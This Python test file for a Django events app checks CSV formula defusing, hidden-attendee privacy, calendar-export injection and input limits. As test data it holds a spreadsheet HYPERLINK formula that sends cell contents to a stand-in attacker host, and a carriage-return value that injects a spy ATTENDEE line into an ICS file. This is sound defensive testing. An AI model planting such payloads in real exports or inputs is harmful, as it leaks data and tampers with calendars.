"""Events: malformed calendar months, spreadsheet-safe CSV exports, hidden attendees stay hidden."""

import csv
import io
import re
from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone

from core.csvsafe import safe_cell
from events import checkin, partnering, registration
from events.models import MeetingRequest, PartneringSession
from tests.factories import EventFactory, OrganizationFactory, cluster_manager, verified_member

pytestmark = pytest.mark.django_db

FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"


def _rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


@pytest.mark.parametrize("month", ["9999-12", "0001-01", "10000-01", "2026-00", "abcd-ef"])
def test_month_view_with_an_out_of_range_month_is_not_a_500(client, month):
    response = client.get(reverse("events:list"), {"view": "month", "month": month})
    assert response.status_code == 200


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_safe_cell_defuses_formula_starts(value):
    assert safe_cell(value) == "'" + value
    assert safe_cell("Kim") == "Kim" and safe_cell(3) == 3


def test_attendance_csv_cells_cannot_run_formulas(client):
    manager, cluster = cluster_manager()
    event = EventFactory(cluster=cluster, starts_at=timezone.now() + timedelta(hours=1))  # check-in is open
    user = verified_member(OrganizationFactory(name_en="@Evil Corp"))
    user.full_name = FORMULA
    user.save()
    registration.event_register(user=user, event_id=event.pk)
    checkin.walk_in_add(user=manager, event_id=event.pk, name="-2+3")
    client.force_login(manager)
    rows = _rows(client.get(reverse("events:attendance_csv", args=[event.pk])))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + FORMULA in cells and "'@Evil Corp" in cells and "'-2+3" in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)


def test_agenda_csv_cells_cannot_run_formulas(client):
    pytest.importorskip("events.scheduling")
    manager, cluster = cluster_manager()
    event = EventFactory(cluster=cluster, kind="partnering", capacity=None)
    a, b = verified_member(OrganizationFactory(name_en="+Plus Bio")), verified_member()
    a.full_name = FORMULA
    a.save()
    registration.event_register(user=a, event_id=event.pk)
    rb = registration.event_register(user=b, event_id=event.pk)
    partnering.partnering_configure(user=manager, event_id=event.pk, first_slot_at=event.starts_at,
                                    slot_minutes=20, slots=2, tables=1)
    req = partnering.meeting_request_create(user=a, event_id=event.pk, recipient_id=rb.pk)
    partnering.meeting_request_decide(user=b, request_id=req.pk, accept=True)
    assert partnering.meetings_schedule(user=manager, event_id=event.pk) == 1
    client.force_login(manager)
    rows = _rows(client.get(reverse("events:agenda_csv", args=[event.pk])))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + FORMULA in cells and "'+Plus Bio" in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)


def test_a_hidden_attendee_cannot_be_found_by_registration_id(client):
    _manager, cluster = cluster_manager()
    event = EventFactory(cluster=cluster, kind="partnering", capacity=None)
    seeker, hidden = verified_member(), verified_member()
    registration.event_register(user=seeker, event_id=event.pk)
    secret = registration.event_register(user=hidden, event_id=event.pk, show_in_participant_list=False)
    client.force_login(seeker)
    response = client.post("/api/v1/events/meeting-requests/", {"event": event.pk, "recipient": secret.pk})
    assert response.status_code == 400
    assert hidden.full_name not in response.content.decode()
    assert not MeetingRequest.objects.exists()


def test_a_hidden_attendee_may_still_ask_and_be_answered(client):
    _manager, cluster = cluster_manager()
    event = EventFactory(cluster=cluster, kind="partnering", capacity=None)
    visible, hidden = verified_member(), verified_member()
    reg_visible = registration.event_register(user=visible, event_id=event.pk)
    reg_hidden = registration.event_register(user=hidden, event_id=event.pk, show_in_participant_list=False)
    partnering.meeting_request_create(user=hidden, event_id=event.pk, recipient_id=reg_visible.pk)
    # Asking back accepts the hidden person's own request.
    mutual = partnering.meeting_request_create(user=visible, event_id=event.pk, recipient_id=reg_hidden.pk)
    assert mutual.status == "accepted"


def test_a_carriage_return_in_an_event_cannot_inject_calendar_properties(client):
    event = EventFactory(title_en="Meetup\rATTENDEE:mailto:spy@evil.example", venue="Hall\rORGANIZER:evil")
    text = client.get(reverse("events:ics", args=[event.pk])).content.decode()
    lines = re.split(r"[\r\n]+", text)
    assert not any(line.startswith(("ATTENDEE", "ORGANIZER")) for line in lines)
    assert "SUMMARY:Meetup\\nATTENDEE:mailto:spy@evil.example" in text.replace("\r\n ", "")


@pytest.mark.parametrize("field", ["slots", "tables", "slot_minutes"])
def test_an_oversized_meeting_grid_is_refused_not_a_500(client, field):
    manager, cluster = cluster_manager()
    event = EventFactory(cluster=cluster, kind="partnering", capacity=None)
    client.force_login(manager)
    data = {"action": "configure", "first_slot_at": "2031-03-14T10:00", "slot_minutes": "20", "slots": "4",
            "tables": "2", field: "40000"}
    response = client.post(reverse("events:partnering", args=[event.pk]), data, follow=True)
    assert response.status_code == 200
    assert "At most 200 slots" in response.content.decode()
    assert not PartneringSession.objects.filter(event=event).exists()
